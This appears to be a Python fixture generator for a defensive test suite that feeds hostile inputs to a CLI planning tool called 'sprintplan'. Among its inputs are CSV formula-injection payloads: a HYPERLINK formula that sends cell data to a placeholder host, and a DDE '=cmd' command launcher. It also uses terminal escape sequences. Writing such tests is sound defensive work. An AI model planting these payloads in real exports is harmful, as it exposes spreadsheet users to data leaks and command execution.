# Fixture generator for scripts/hostile (Python 3 standard library only).
#
# Every function returns a list of cases for one class of issue #19. A case is a dict:
#   cls      class number (1-11) and name, for the summary table
#   name     what the case tries
#   argv     sprintplan arguments (bytes allowed for odd file names)
#   expect   exit statuses that are correct
#   checks   names of output checks (see scripts/hostile), e.g. "located", "csv-stdout"
#   limit    a --time-limit the run must honour (seconds), or None
# The values are drawn from fixed lists plus a seeded random sample, so a different --seed
# tries inputs no test has seen.
import copy
import json
import os
import random

EXTREMES = [1e308, -1e308, 1.7976931348623157e308, 5e-324, 1e-320, 2.2250738585072014e-308, 1e-300,
            1e15, 1e13, 9.99e12, 1e10, 1e9, 1000000000.01, 0.005, 1e-6, -1.0, 0.0, 123456789.123456789]
INTEGER_EXTREMES = [0, -1, 2**31, 2**53, 10**9, 10**12, 1e300]

# Where a number stands in a scenario: (name, setter).
def _targets(base):
    range_criterion = next((i for i, c in enumerate(base["criteria"]) if c["scale"]["type"] == "range"), None)
    def crit_weight(d, v): d["criteria"][0]["weight"] = v
    def all_weights(d, v):
        for c in d["criteria"]: c["weight"] = v
    def zb_weight(d, v): d["zielbilder"][0]["weights"] = {c["id"]: v for c in d["criteria"]}
    def effort(d, v): d["measures"][5]["effort"] = v; d["measures"][5]["progress"] = 0
    def progress(d, v): d["measures"][0]["progress"] = v
    def cost(d, v): d["measures"][3]["costPerTeamQuarter"] = v
    def one_off(d, v): d["measures"][3]["oneOffCost"] = v
    def total(d, v): d["budget"]["total"] = v
    def per_quarter(d, v): d["budget"]["perQuarter"] = v
    def own(d, v): d["budget"]["ownShareCap"] = v
    def bundle(d, v): d["solutions"][0]["bundleValue"] = v
    def policy(key):
        def set_(d, v): d["policy"][key] = v
        return set_
    def cross(d, v): d["policy"]["crossZielbild"]["cost"] = v
    def eligible(d, v): d["measures"][2]["eligibleShare"] = v
    def funding(d, v): d["programme"]["fundingRate"] = v
    targets = [("criterion weight", crit_weight), ("every weight", all_weights), ("Zielbild weights", zb_weight),
               ("effort", effort), ("progress", progress), ("costPerTeamQuarter", cost), ("oneOffCost", one_off),
               ("budget.total", total), ("budget.perQuarter", per_quarter), ("budget.ownShareCap", own),
               ("bundleValue", bundle), ("switchingCost", policy("switchingCost")), ("discountRate", policy("discountRate")),
               ("partialProgressValue", policy("partialProgressValue")), ("valueScale", policy("valueScale")),
               ("crossZielbild.cost", cross), ("eligibleShare", eligible), ("fundingRate", funding)]
    if range_criterion is not None:
        cid = base["criteria"][range_criterion]["id"]
        def scale(d, v):
            d["criteria"][range_criterion]["scale"] = {"type": "range", "min": -abs(v), "max": abs(v) if v else 1}
        def rating(d, v):
            d["criteria"][range_criterion]["scale"] = {"type": "range", "min": -1e308, "max": 1e308}
            for m in d["measures"]:
                if cid in m.get("ratings", {}): m["ratings"][cid] = v
        targets += [("range scale", scale), ("range ratings", rating)]
    def max_teams(d, v): d["measures"][4]["maxTeams"] = v
    def balance(d, v): d["zielbilder"][0]["balance"] = {"minTeamsWorkingPerQuarter": v, "minCompletions": v}
    def quarters(d, v): d["horizon"]["quarters"] = v
    integer_targets = [("maxTeams", max_teams), ("balance", balance), ("horizon.quarters", quarters)]
    return targets, integer_targets


def write_json(path, document):
    with open(path, "w", encoding="utf-8") as f:
        json.dump(document, f, ensure_ascii=False, indent=1)
    return path


def load_base(root):
    with open(os.path.join(root, "scenarios/myk10/myk10.json"), encoding="utf-8") as f:
        base = json.load(f)
    base.pop("$schema", None)
    return base


def numeric_extremes(base, work, rng):
    """Class 1: every documented number at its extremes, through every command that computes."""
    targets, integer_targets = _targets(base)
    chosen = [(t, v) for t in targets for v in EXTREMES]
    chosen = [c for c in chosen if c[1] in (1e308, 5e-324, 1e-320, 1e13, 1e-300)] + rng.sample(chosen, 40)
    chosen += [(t, v) for t in integer_targets for v in INTEGER_EXTREMES]
    cases = []
    for index, ((name, setter), value) in enumerate(chosen):
        document = copy.deepcopy(base)
        setter(document, value)
        path = write_json(os.path.join(work, f"extreme-{index}.json"), document)
        label = f"{name} = {value!r}"
        cases.append(dict(cls=1, name=f"validate {label}", argv=["validate", path], expect={0, 65}, checks=["located"],
                          follow=[  # run only when the file validates: the computing commands
                              dict(name=f"plan {label}", argv=["plan", path, "--quarters", "1", "--time-limit", "10", "--format", "json"],
                                   expect={0, 1, 2}, checks=["plan-consistent"], limit=10),
                              dict(name=f"decide {label}", argv=["decide", path, "--quarters", "1", "--time-limit", "10", "--no-alternatives"],
                                   expect={0, 1, 2}, checks=["terminal"], limit=10),
                              dict(name=f"explain {label}", argv=["explain", path, "--team", "T1", "--quarter", "2027-Q1", "--quarters", "1",
                                                                  "--time-limit", "10"], expect={0, 1, 2}, checks=["terminal"], limit=10),
                              dict(name=f"report {label}", argv=["report", path, "--quarters", "1", "--time-limit", "10", "--format", "html",
                                                                 "--out", path + ".html"], expect={0, 1, 2}, checks=["xml:" + path + ".html"], limit=10),
                              dict(name=f"score {label}", argv=["score", path, "--format", "csv"], expect={0}, checks=["csv-stdout"]),
                          ]))
    sweeps = ["budget.total=0:1:1e-300", "policy.discountRate=0:1:1e-320", "budget.total=-1e308:1e308:1e307",
              "weight.gemeinwohl=1e308", "weight.Z1.gemeinwohl=0:1e308:1e306", "horizon.quarters=1e300", "teams.Z1=1e18",
              "policy.valueScale=5e-324,1e308", "budget.total=nan", "budget.total=inf", "budget.perQuarter=1e13",
              "horizon.quarters=0:1e18:1", "programme.fundingRate=-0,1e-320", "policy.switchingCost=1e308:1e308:1",
              "weight.gemeinwohl=0:1:0.3333333333333333", "budget.ownShareCap=1e9,1e9"]
    sweeps += [f"{rng.choice(['budget.total', 'policy.discountRate', 'weight.gemeinwohl', 'policy.valueScale'])}="
               f"{rng.choice(['0', '-1e308', '1e-320'])}:{rng.choice(['1', '1e308', '5e-324'])}:{rng.choice(['1e-300', '1e307', '0.5'])}"
               for _ in range(6)]
    settings = ["weight.gemeinwohl=1e308", "policy.valueScale=1e308", "policy.discountRate=1e-320", "budget.total=1e13",
                "weight.Z1.gemeinwohl=5e-324", "horizon.quarters=1e18", "teams.Z1=-1", "programme.fundingRate=1e-320",
                "policy.switchingCost=-1e308", f"weight.gemeinwohl={rng.choice(EXTREMES)!r}", f"policy.valueScale={rng.choice(EXTREMES)!r}"]
    for setting in settings:
        cases.append(dict(cls=1, name=f"plan --set {setting}", argv=["plan", os.path.join(work, "base.json"), "--set", setting,
                                                                   "--quarters", "1", "--time-limit", "10"],
                          expect={0, 1, 2, 64, 65}, checks=["located", "terminal"], limit=10))
    for spec in sweeps:
        cases.append(dict(cls=1, name=f"sweep --vary {spec}", argv=["sweep", os.path.join(work, "base.json"), "--vary", spec,
                                                                    "--quarters", "1", "--time-limit", "10"],
                          expect={0, 64, 65}, checks=["located", "terminal"]))
    return cases


def long_horizon(base, work, rng):
    """Class 2: a ten-year horizon and a generated district over it, under a time limit."""
    cases = []
    document = copy.deepcopy(base)
    document["programme"]["endDate"] = "2036-12-31"
    document["horizon"]["quarters"] = 40
    path = write_json(os.path.join(work, "horizon-40.json"), document)
    for limit in (3, 5):
        cases.append(dict(cls=2, name=f"plan 40 quarters --time-limit {limit}", argv=["plan", path, "--time-limit", str(limit)],
                          expect={0, 1, 2}, checks=["terminal"], limit=limit))
    cases.append(dict(cls=2, name="report 40 quarters --time-limit 5",
                      argv=["report", path, "--time-limit", "5", "--out", path + ".html", "--format", "html"],
                      expect={0, 1, 2}, checks=["xml:" + path + ".html"], limit=5))
    cases.append(dict(cls=2, name="select 40 quarters --time-limit 5", argv=["select", path, "--time-limit", "5"],
                      expect={0, 1, 2}, checks=["terminal"], limit=5))
    cases.append(dict(cls=2, name="decide 40 quarters --time-limit 5", argv=["decide", path, "--time-limit", "5"],
                      expect={0, 1, 2}, checks=["terminal"], limit=5))
    quarters = rng.choice([24, 32, 40])
    document["horizon"]["quarters"] = quarters
    path = write_json(os.path.join(work, f"horizon-{quarters}.json"), document)
    cases.append(dict(cls=2, name=f"plan {quarters} quarters --time-limit 4", argv=["plan", path, "--time-limit", "4"],
                      expect={0, 1, 2}, checks=["terminal"], limit=4))
    return cases


INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&A1,"Klick")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
              "=cmd|' /C calc'!A0", "'=already quoted", "-", "--", "+", "@", "=", "-5", "-1.5e3"]


def formula_injection(base, work, rng):
    """Class 4: names that a spreadsheet would run, through every CSV writer."""
    document = copy.deepcopy(base)
    payloads = INJECTIONS + ["".join(rng.choice("=+-@\t\r'x1") for _ in range(rng.randint(1, 6))) for _ in range(6)]
    for index, payload in enumerate(payloads):
        measure = document["measures"][index % len(document["measures"])]
        measure["name"] = payload
        measure["municipalities"] = [payload, "VG " + payload]
    document["sprintteams"][0]["name"] = payloads[0]
    document["zielbilder"][0]["name"] = payloads[1]
    document["criteria"][0]["label"] = payloads[2]
    path = write_json(os.path.join(work, "injection.json"), document)
    cases = []
    for separator in ("comma", "semicolon"):
        out = os.path.join(work, f"injection-{separator}.csv")
        cases.append(dict(cls=4, name=f"export-measures --csv-separator {separator}",
                          argv=["export-measures", path, "--out", out, "--csv-separator", separator], expect={0},
                          checks=[f"csv-file:{out}:{separator}"]))
        cases.append(dict(cls=4, name=f"score --format csv ({separator})", argv=["score", path, "--format", "csv", "--csv-separator", separator],
                          expect={0}, checks=[f"csv-stdout:{separator}"]))
    for command in (["plan", "--quarters", "2"], ["decide", "--quarters", "2"]):
        cases.append(dict(cls=4, name=f"{command[0]} --format csv", argv=[command[0], path] + command[1:] + ["--format", "csv"],
                          expect={0}, checks=["csv-stdout"]))
    cases.append(dict(cls=4, name="sweep --format csv", argv=["sweep", path, "--vary", "policy.switchingCost=5,10", "--quarters", "1",
                                                             "--format", "csv"], expect={0}, checks=["csv-stdout"]))
    return cases


ROUND_TRIP_TEXTS = ["  leading", "trailing  ", "\u00a0no-break space", "nbsp at end\u00a0", "a|b", "a | b", "back\\slash",
                    "\\|", "end\\", "'quoted'", "''", "'", "=1+1", "-x", "comma, and; semicolon", 'say "hi"', "line\nbreak",
                    "crlf\r\nbreak", "\ttab", "emoji 🚲", "RTL \u202eevil", "-5", "'-5", "Ümläut ß", " ", "x" * 300]


def round_trip(base, work, rng):
    """Class 5: a scenario whose text survives export-measures then import-measures exactly."""
    document = copy.deepcopy(base)
    texts = ROUND_TRIP_TEXTS + ["".join(rng.choice(" |\\'\"=,;\u00a0\tab\n") for _ in range(rng.randint(1, 12))) for _ in range(8)]
    for index, text in enumerate(texts):
        measure = document["measures"][index % len(document["measures"])]
        if text.strip(" ") or index % 2:
            measure["name"] = text if text.strip() else "x" + text
        measure["municipalities"] = [text, text + " | ", "|" + text]
    path = write_json(os.path.join(work, "round-trip.json"), document)
    return [dict(cls=5, name=f"export then import ({separator})", special="round-trip", scenario=path, separator=separator)
            for separator in ("comma", "semicolon")]


CONTROLS = [chr(c) for c in range(0, 32)] + ["\x7f", "\x85", "\x9b", "\u2028", "|", "\n", "\r\n", "\x1b[31mred\x1b[0m", "\x07bell"]


def control_characters(base, work, rng):
    """Class 6: names with control characters and table separators through every format."""
    document = copy.deepcopy(base)
    for index, control in enumerate(CONTROLS + [rng.choice(CONTROLS) + rng.choice(CONTROLS) for _ in range(5)]):
        document["measures"][index % len(document["measures"])]["name"] = f"M{index}{control}name{control}"
    document["sprintteams"][0]["name"] = "Team\x1b]0;title\x07|x\ny"
    document["zielbilder"][0]["name"] = "Ziel\x00bild | one\nline"
    document["name"] = "Scenario\x1b[2J\x00|\nname"
    document["criteria"][1]["label"] = "Label\x0b\x0c|"
    path = write_json(os.path.join(work, "controls.json"), document)
    html, markdown = path + ".html", path + ".md"
    cases = [dict(cls=6, name="report --format html", argv=["report", path, "--quarters", "2", "--format", "html", "--out", html],
                  expect={0}, checks=["xml:" + html]),
             dict(cls=6, name="report --format markdown", argv=["report", path, "--quarters", "2", "--format", "markdown", "--out", markdown],
                  expect={0}, checks=["markdown-file:" + markdown])]
    for argv in (["validate", path], ["score", path], ["score", path, "--format", "markdown"], ["plan", path, "--quarters", "2"],
                 ["decide", path, "--quarters", "2"], ["decide", path, "--quarters", "2", "--format", "markdown"],
                 ["explain", path, "--team", "T1", "--quarter", "2027-Q1", "--quarters", "2"], ["select", path],
                 ["compare", path, path, "--quarters", "1"], ["compare", path, path, "--quarters", "1", "--format", "markdown"],
                 ["plan", path, "--quarters", "1", "--format", "json"], ["score", path, "--format", "json"],
                 ["decide", path, "--quarters", "1", "--format", "json"], ["validate", path, "--format", "json"]):
        checks = ["terminal"] + (["markdown-stdout"] if "markdown" in argv else []) + (["json-stdout"] if "json" in argv else [])
        cases.append(dict(cls=6, name=" ".join(a for a in argv if a != path), argv=argv, expect={0}, checks=checks))
    return cases


def output_over_input(base, work, rng):
    """Class 7: an --out that is an input under another spelling or name."""
    path = write_json(os.path.join(work, "over.json"), base)
    folder = os.path.join(work, "over-records")
    record = os.path.join(folder, "decision-2027-Q1.json")
    sheet = os.path.join(work, "over.csv")
    setup = [["decide", path, "--quarters", "1", "--record-dir", folder], ["export-measures", path, "--out", sheet]]
    link = os.path.join(work, "over-link.json")
    hard = os.path.join(work, "over-hard.csv")
    spellings = {"same path": record, "./ prefix": os.path.join(folder, ".", "decision-2027-Q1.json"),
                 "symbolic link": link}
    cases = []
    for label, target in spellings.items():
        cases.append(dict(cls=7, name=f"advance --out = --record ({label})", setup=setup, links=[(record, link, "sym")],
                          argv=["advance", path, "--record", record, "--out", target], expect={64}, unchanged=[record, path]))
    cases += [
        dict(cls=7, name="advance --out = scenario", setup=setup, argv=["advance", path, "--record", record, "--out", path],
             expect={64}, unchanged=[record, path]),
        dict(cls=7, name="import-measures --out = sheet", setup=setup, argv=["import-measures", sheet, "--into", path, "--out", sheet],
             expect={64}, unchanged=[sheet, path]),
        dict(cls=7, name="import-measures --out = hard link of the sheet", setup=setup, links=[(sheet, hard, "hard")],
             argv=["import-measures", sheet, "--into", path, "--out", hard], expect={64}, unchanged=[sheet, path]),
        dict(cls=7, name="import-measures --out = --into", setup=setup, argv=["import-measures", sheet, "--into", path, "--out", path],
             expect={64}, unchanged=[sheet, path]),
        dict(cls=7, name="export-measures --out = scenario", argv=["export-measures", path, "--out", path], expect={64}, unchanged=[path]),
        dict(cls=7, name="report --out = scenario", argv=["report", path, "--quarters", "1", "--out", path], expect={64}, unchanged=[path]),
        dict(cls=7, name="export --lp = scenario", argv=["export", path, "--quarters", "1", "--lp", path], expect={64}, unchanged=[path]),
    ]
    child = write_json(os.path.join(work, "over-child.json"), {"format": "sprintplan/1", "extends": "over.json", "name": "child"})
    cases.append(dict(cls=7, name="report --out = the base of --compare", argv=["report", child, "--quarters", "1", "--out", path],
                      expect={64}, unchanged=[path]))
    return cases


SHEET_NUMBERS = ["0x10", "inf", "nan", "-inf", "1_000", "+5", ".5", "5.", "1e400", "0x1p3", "١٢", "５", "1,5,5", "2 3"]


def refusals(base, work, rng):
    """Class 8: what must be refused with a located error, and a file that exists under an odd name."""
    cases = []
    for index, bad in enumerate(["base\u0000.json", "\u0000", "", "a\u0001b.json", "x" * 5000, "/dev/zero", "."]):
        path = write_json(os.path.join(work, f"extends-{index}.json"), {"format": "sprintplan/1", "extends": bad})
        cases.append(dict(cls=8, name=f"extends {bad[:20]!r}", argv=["validate", path], expect={65}, checks=["located"]))
    path = write_json(os.path.join(work, "sheet-base.json"), base)
    for index, number in enumerate(SHEET_NUMBERS + [rng.choice(["0x", "1e", "-", "+"]) + str(rng.randint(0, 99))]):
        sheet = os.path.join(work, f"sheet-number-{index}.csv")
        with open(sheet, "w", encoding="utf-8") as f:
            f.write(f'id,effort\nM01,"{number}"\n')
        cases.append(dict(cls=8, name=f"sheet effort {number!r}", argv=["import-measures", sheet, "--into", path, "--out", sheet + ".json"],
                          expect={65}, checks=["located"]))
    for label, content in (("not UTF-8", b"id,name\nM01,caf\xe9\n"), ("NUL bytes", b"id\x00,name\nM01,x\n")):
        sheet = os.path.join(work, f"sheet-{label[:3]}.csv")
        with open(sheet, "wb") as f:
            f.write(content)
        cases.append(dict(cls=8, name=f"sheet {label}", argv=["import-measures", sheet, "--into", path, "--out", sheet + ".json"],
                          expect={65}, checks=["located"]))
    for label, target in (("a folder", work), ("a device", "/dev/zero")):
        cases.append(dict(cls=8, name=f"sheet is {label}", argv=["import-measures", target, "--into", path, "--out",
                                                                 os.path.join(work, "dev.json")], expect={65}, checks=["located"]))
    odd_sheet = os.path.join(work.encode(), b"sheet-\xff.csv")
    with open(odd_sheet, "w") as f:
        f.write("id\n")
    cases.append(dict(cls=8, name="sheet named with invalid UTF-8 bytes", argv=["import-measures", odd_sheet, "--into", path,
                                                                               "--out", os.path.join(work, "odd.json")], expect={0}))
    document = copy.deepcopy(base)
    document["sprintteams"] = []
    document["locks"] = {"pins": [], "forbidden": []}
    empty = write_json(os.path.join(work, "no-teams.json"), document)
    cases.append(dict(cls=8, name="zero Sprintteams, running measures: validate", argv=["validate", empty], expect={65}, checks=["located"]))
    cases.append(dict(cls=8, name="zero Sprintteams, running measures: plan", argv=["plan", empty], expect={65}, checks=["located"]))
    odd = os.path.join(work.encode(), b"caf\xe9-\xff.json")
    with open(odd, "wb") as f:
        f.write(json.dumps(base).encode())
    cases.append(dict(cls=8, name="file name with invalid UTF-8 bytes: validate", argv=["validate", odd], expect={0}))
    cases.append(dict(cls=8, name="file name with invalid UTF-8 bytes: plan", argv=["plan", odd, "--quarters", "1"], expect={0}))
    return cases


def located_errors(base, work, rng):
    """Class 9: advance, history and CSV problems each name file, location and error[code]."""
    path = write_json(os.path.join(work, "loc.json"), base)
    folder = os.path.join(work, "loc-records")
    record = os.path.join(folder, "decision-2027-Q1.json")
    setup = [["decide", path, "--quarters", "1", "--record-dir", folder]]
    done = next(m["id"] for m in base["measures"] if m.get("status") in ("done", "dropped")) if any(
        m.get("status") in ("done", "dropped") for m in base["measures"]) else None
    progress = {
        "unknown Sprintteam": {"worked": {"T99": "M01"}},
        "unknown measure": {"worked": {"T1": "M999"}},
        "unknown measure in progress": {"progress": {"M999": 1}},
        "outcome for another quarter": {"quarter": "2027-Q3"},
        "negative progress": {"progress": {"M01": -1}},
        "huge progress": {"progress": {"M01": 1e308}},
        "not a map": {"worked": ["T1"]},
    }
    if done:
        progress["measure done or dropped"] = {"worked": {"T1": done}}
    cases = []
    for label, fields in progress.items():
        document = {"format": "sprintplan-progress/1", "quarter": "2027-Q1"}
        document.update(fields)
        progress_path = write_json(os.path.join(work, f"progress-{len(cases)}.json"), document)
        cases.append(dict(cls=9, name=f"advance: {label}", setup=setup,
                          argv=["advance", path, "--record", record, "--progress", progress_path, "--out", os.path.join(work, "next.json")],
                          expect={65}, checks=["located"]))
    other = os.path.join(work, "loc-other")
    cases.append(dict(cls=9, name="history: a record named for another quarter",
                      setup=[["decide", path, "--quarters", "1", "--record-dir", other]],
                      renames=[(os.path.join(other, "decision-2027-Q1.json"), os.path.join(other, "decision-2027-Q2.json"))],
                      argv=["history", other], expect={65}, checks=["located"]))
    broken = os.path.join(work, "loc-broken")
    os.makedirs(broken, exist_ok=True)
    with open(os.path.join(broken, "decision-2027-Q1.json"), "w") as f:
        f.write('{"format": "sprintplan-record/1", "quarter": ')
    cases.append(dict(cls=9, name="history: a cut record", argv=["history", broken], expect={65}, checks=["located"]))
    with open(os.path.join(work, "cut-record.json"), "w") as f:
        f.write('{"format": "sprintplan-record/1"')
    cases.append(dict(cls=9, name="advance: a cut record", argv=["advance", path, "--record", os.path.join(work, "cut-record.json"),
                                                                 "--out", os.path.join(work, "next2.json")], expect={65}, checks=["located"]))
    for index, text in enumerate(['id,name\nM01,"unclosed\n', 'id,name\nM01,x"y\n', 'id,name\nM01,"a"b\n', 'id,"na\nme\nM01,x\n',
                                  'id,name\nM01,ok\nM02,"' + "q" * rng.randint(1, 50)]):
        sheet = os.path.join(work, f"syntax-{index}.csv")
        with open(sheet, "w", encoding="utf-8") as f:
            f.write(text)
        cases.append(dict(cls=9, name=f"CSV syntax {text[:24]!r}", argv=["import-measures", sheet, "--into", path, "--out", sheet + ".json"],
                          expect={65}, checks=["located"]))
    return cases


def optimum_numbers(base, work, rng):
    """Class 10: tiny efforts and huge money must not change a proven optimum silently."""
    cases = []
    efforts = [0.5, 0.25, 0.01, 0.001, 1e-6, 1e-9, 1e-12, 1e-30, 1e-300, rng.choice([0.07, 0.13, 0.99])]
    for measure in (5, 20):
        group = []
        for effort in efforts:
            document = copy.deepcopy(base)
            document["measures"][measure]["effort"] = effort
            document["measures"][measure]["progress"] = 0
            path = write_json(os.path.join(work, f"tiny-{measure}-{effort!r}.json"), document)
            group.append(path)
        cases.append(dict(cls=10, name=f"measure {measure} effort 0.5 … 1e-300", special="same-optimum", files=group,
                          one_quarter=[e <= 1 for e in efforts]))
    for money in (1e8, 1e9, 1e10, 1e13):
        document = copy.deepcopy(base)
        for m in document["measures"]:
            m["costPerTeamQuarter"] = money
        document["budget"] = {"total": min(money * 40, 1e9) if money <= 1e9 else money * 40}
        path = write_json(os.path.join(work, f"money-{money:g}.json"), document)
        cases.append(dict(cls=10, name=f"money {money:g} per team-quarter", argv=["plan", path, "--quarters", "2", "--format", "json",
                                                                                  "--time-limit", "10"],
                          expect={0, 1, 2, 65}, checks=["located", "plan-consistent"], limit=10))
    return cases


def size(base, work, rng, measures=50_053):
    """Class 11: a huge valid-looking file (like the issue's 41 MB), and the largest supported size."""
    cases = []
    # 12 Sprintteams with cross-Zielbild help over 4 quarters: 5,200 open measures are the
    # largest supported scenario (250,000 team-measure-quarter combinations).
    for count, label in ((measures, "beyond the limits"), (20_000, "beyond the combinations limit"), (5_200, "the largest supported")):
        document = copy.deepcopy(base)
        template = [m for m in base["measures"] if m.get("status", "candidate") == "candidate" and not m.get("solution")
                    and not m.get("prerequisites")]
        extra = []
        for index in range(count - len(document["measures"])):
            measure = copy.deepcopy(template[index % len(template)])
            measure["id"] = f"X{index:06d}"
            measure["name"] = f"{measure['name']} #{index}"
            extra.append(measure)
        document["measures"] += extra
        path = write_json(os.path.join(work, f"size-{count}.json"), document)
        cases.append(dict(cls=11, name=f"validate {count} measures ({label}, {os.path.getsize(path) / 1e6:.0f} MB)",
                          argv=["validate", path], expect={0, 65}, checks=["located"], memory=True))
        cases.append(dict(cls=11, name=f"plan {count} measures --time-limit 10", argv=["plan", path, "--time-limit", "10"],
                          expect={0, 2, 65}, checks=["located"], limit=10, memory=True))
        cases.append(dict(cls=11, name=f"select {count} measures --time-limit 10", argv=["select", path, "--time-limit", "10"],
                          expect={0, 2, 65}, checks=["located"], limit=10, memory=True))
    return cases


def records(base, work, rng):
    """Class 3: 20 writers at once, with and without --force, repeated."""
    path = write_json(os.path.join(work, "records.json"), base)
    return [dict(cls=3, name=f"20 concurrent decide {'--force ' if force else ''}round {round_}", special="records",
                 scenario=path, force=force, folder=os.path.join(work, f"records-{int(force)}-{round_}"), writers=20)
            for force in (False, True) for round_ in range(3)]


def all_cases(root, work, seed, only=(), measures=50_053):
    """Every case of the classes in `only` (all when empty), fixtures written into `work`."""
    rng = random.Random(seed)
    base = load_base(root)
    write_json(os.path.join(work, "base.json"), base)
    generators = {1: numeric_extremes, 2: long_horizon, 3: records, 4: formula_injection, 5: round_trip,
                  6: control_characters, 7: output_over_input, 8: refusals, 9: located_errors, 10: optimum_numbers,
                  11: lambda b, w, r: size(b, w, r, measures)}
    cases = []
    for cls, generate in generators.items():
        if not only or cls in only:
            cases += generate(base, work, rng)
    return cases
